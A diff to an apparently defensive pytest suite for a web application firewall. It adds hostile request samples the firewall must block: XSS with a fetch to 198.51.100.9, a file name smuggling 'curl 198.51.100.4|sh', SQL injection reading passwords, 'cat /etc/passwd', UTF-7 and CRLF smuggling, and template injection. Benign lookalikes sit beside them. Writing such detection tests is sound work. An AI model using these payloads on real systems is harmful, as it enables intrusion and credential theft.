@@ -120,6 +120,16 @@ HITS = [
     (20806, _body("application/xml", b'<?xml version="1.0"?><request><item sku="X1\' AND SLEEP(5) AND '
                                      b'\'1\'=\'1"/></request>')),
     (20807, _query("c3RhdHVzPSdvcGVuJyBVTklPTiBTRUxFQ1QgbG9naW4scGFzc3dvcmQgRlJPTSBvcGVyYXRvcnMtLQ==", "f")),
+    (20808, Request("GET", "/account/sessions", [*HEADERS, ("X-Device", "<img src=x onerror=alert(document.domain)>")])),
+    (20808, Request("GET", "/", [*HEADERS, ("X-Forwarded-Host",
+                                            "shop.example.test\"><script>fetch('//198.51.100.9')</script>")])),
+    (20901, _upload("q3'),((SELECT password FROM users LIMIT 1)).txt", b"x", "text/plain")),
+    (20901, _upload("x.png;curl 198.51.100.4|sh;.png", b"\x89PNG", "image/png")),
+    (20901, _upload("a`id`.gif", b"GIF89a")),
+    (20902, _upload("notes.txt", b"+ADw-script+AD4-", "text/plain; charset=utf-7")),
+    (20903, _upload("notes.txt", b"x", "text/plain; charset=utf-8, text/html; charset=utf-7")),
+    (20904, _query("x\r\n\r\nGET /admin/users HTTP/1.1\r\nHost: localhost", "lang")),
+    (20904, _body("application/xml", b'<?xml version="1.0"?><a><b>POST /internal/reset HTTP/1.1</b></a>')),
 ]
 
 MISSES = [
@@ -160,6 +170,14 @@ MISSES = [
     _query("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9", "token"),
     _body("application/xml", b'<?xml version="1.0"?><order id="O\'Brien-7" qty="2"><item>tea</item></order>'),
     _query("java.util.List and the class loader chapter", "topic"),
+    Request("GET", "/", [*HEADERS, ("X-Device", "Pixel 8 Pro (Android 15) <work>"), ("X-Tenant", "O'Brien & Sons")]),
+    _upload("Liam O'Connell CV.pdf", b"%PDF-1.4", "application/pdf"),
+    _upload("John's holiday (2).gif", b"GIF89a"),
+    _upload("notes.txt", b"plain words", "text/plain; charset=utf-8"),
+    _upload("notes.txt", b"plain words", 'text/plain; charset="ISO-8859-1"'),
+    _query("Can't wait to get started\nwe will post tomorrow\nget it done", "message"),
+    _body("application/xml", b'<?xml version="1.0"?><methodCall><methodName>wp.newPost</methodName>'
+                             b'<params><param><value>1</value></param></params></methodCall>'),
 ]
 
 
@@ -187,7 +205,75 @@ def test_own_rules_use_their_id_range_and_every_rule_has_a_test() -> None:
         with open(path, encoding="utf-8") as f:
             ids.update(int(found) for found in re.findall(r'"id:(\d+)', f.read()))
     assert ids and all(10000 <= i <= 29999 for i in ids)
-    assert ids <= {rule for rule, _ in HITS}, sorted(ids - {rule for rule, _ in HITS})
+    tested = {rule for rule, _ in HITS} | {rule for rule, _, _ in BODY_READERS}
+    assert ids <= tested, sorted(ids - tested)
+
+
+def _raw(content_type: str | None, text: str) -> Request:
+    data = text.encode()
+    headers = [*HEADERS, ("Content-Length", str(len(data)))]
+    if content_type is not None:
+        headers.append(("Content-Type", content_type))
+    return Request("POST", "/api/ingest", headers, data)
+
+
+# Rules that only choose how a body is read (no score of their own): the attack in such a body is found by
+# the rule named, through the arguments the body became.
+BODY_READERS = [
+    (20910, _raw(None, "1' union select login, password from operators-- -"), 942100),
+    (20910, _raw(None, "<svg onload=alert(document.cookie)>"), 941100),
+    (20911, _raw("text/plain", "; cat /etc/passwd"), 932160),
+    (20911, _raw("text/csv; charset=utf-8", "name,total\n{{ config.__class__.__init__.__globals__ }},3\n"), 20201),
+]
+
+
+@pytest.mark.parametrize(("rule", "request_", "finder"), BODY_READERS,
+                         ids=[f"{r}-{i}" for i, (r, _, _) in enumerate(BODY_READERS)])
+def test_bodies_without_a_processor_are_read_as_arguments(waf: Engine, rule: int, request_: Request,
+                                                          finder: int) -> None:
+    verdict = waf.inspect(request_)
+    assert finder in verdict.rule_ids and verdict.disruptive, verdict.rule_ids
+
+
+@pytest.mark.parametrize("text", [
+    "Deploy finished.\nAll 12 checks passed; nothing to do.\nSee you tomorrow",
+    "2025-03-01T10:00:00Z INFO worker started\n2025-03-01T10:00:01Z INFO 100% of jobs done",
+    "name,city\nO'Brien,Cork\nD'Angelo,Turin\n",
+])
+@pytest.mark.parametrize("content_type", [None, "text/plain; charset=utf-8", "text/csv"])
+def test_ordinary_text_bodies_read_as_arguments_pass(waf: Engine, text: str, content_type: str | None) -> None:
+    verdict = waf.inspect(_raw(content_type, text))
+    assert not verdict.disruptive, verdict.rule_ids
+
+
+# CRS rules re-scored as supporting evidence (a notice's score): alone they do not refuse a request, with the
+# critical rules real attacks of their kind also trip they do.
+SUPPORTING = [
+    (932100, _json('{"query": "query Post($id: ID!) { post(id: $id) { id title author { name } } }"}'),
+     _query("127.0.0.1;`cat /etc/passwd`", "host")),
+    (941310, _query("\uff21\uff22\uff23\u682a\u5f0f\u4f1a\u793e"), None),
+    (942190, _json('{"q": "\\"select committee\\" report 2024"}'),
+     _query("1' union select username, password from users-- -", "id")),
+    (942360, _query("name,email", "$select"), _query("1' union select username, password from users-- -", "id")),
+    (921110, _query("Can't wait to get started\nsee you", "message"), None),
+]
+
+
+@pytest.mark.parametrize(("rule", "alone", "attack"), SUPPORTING, ids=[str(r) for r, _, _ in SUPPORTING])
+def test_supporting_rules_refuse_only_with_other_evidence(waf: Engine, rule: int, alone: Request,
+                                                         attack: Request | None) -> None:
+    verdict = waf.inspect(alone)
+    assert rule in verdict.rule_ids and not verdict.disruptive, verdict.rule_ids
+    if attack is not None:
+        verdict = waf.inspect(attack)
+        assert rule in verdict.rule_ids and verdict.disruptive, verdict.rule_ids
+
+
+def test_accept_charset_is_no_longer_refused_but_routing_headers_are(waf: Engine) -> None:
+    charset = waf.inspect(Request("GET", "/", [*HEADERS, ("Accept-Charset", "utf-8, iso-8859-1;q=0.5, *;q=0.1")]))
+    assert not charset.disruptive, charset.rule_ids
+    proxy = waf.inspect(Request("GET", "/", [*HEADERS, ("Proxy", "http://198.51.100.7:8080")]))
+    assert 920450 in proxy.rule_ids and proxy.disruptive
 
 
 def test_the_phpmyadmin_package_lets_its_sql_box_through_and_nothing_else() -> None:
